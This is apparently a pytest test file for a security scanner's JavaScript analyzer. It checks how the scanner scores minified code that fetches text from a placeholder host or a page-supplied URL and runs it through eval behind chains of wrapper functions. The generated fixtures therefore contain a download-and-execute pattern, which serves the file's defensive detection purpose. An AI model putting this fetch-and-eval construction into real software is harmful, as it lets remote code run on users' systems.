"""What went through many functions of a minified file is hardly what was fetched any more."""

import pytest

from scanner.analyzers.base import Confidence, Severity
from scanner.analyzers.javascript import JavaScriptAnalyzer

REST = "".join(f"var v{number}={number};" for number in range(3000))
"""Of a middling library, on one line."""


def through(functions, address='"https://files.invalid/x"'):
    """Something fetched, and as many functions that hand it on."""
    chain = "function f0(x){return eval(x)}"
    for number in range(1, functions):
        chain += f"function f{number}(x){{return f{number - 1}(x)}}"
    fetched = f"const r=await fetch({address});"
    return f"{chain}async function g(){{{fetched}f{functions - 1}(await r.text())}}g();"


@pytest.mark.parametrize(
    ("functions", "rest", "told"),
    [
        (2, REST, (Severity.CRITICAL, Confidence.HIGH)),
        (3, REST, (Severity.MEDIUM, Confidence.HIGH)),
        (4, REST, (Severity.CRITICAL, Confidence.LOW)),
        (4, "", (Severity.CRITICAL, Confidence.HIGH)),
    ],
    ids=["near", "as far as counts", "farther", "in a small file"],
)
def test_the_farther_it_came_the_less_is_it_trusted(tmp_path, functions, rest, told):
    (tmp_path / "library.min.js").write_text(through(functions) + rest)

    found = [
        (each.severity, each.confidence)
        for each in JavaScriptAnalyzer().analyze(tmp_path)
        if each.rule == "javascript.exec-downloaded"
    ]

    assert found == [told]


@pytest.mark.parametrize("functions", [1, 2, 3])
def test_a_library_that_names_no_machine_fetches_where_its_page_says(tmp_path, functions):
    code = through(functions, "document.body.dataset.from")
    (tmp_path / "library.min.js").write_text(code + REST)

    (found,) = JavaScriptAnalyzer().analyze(tmp_path)

    assert found.rule == "javascript.exec-downloaded"
    assert (found.confidence is Confidence.LOW) is (functions > 1)
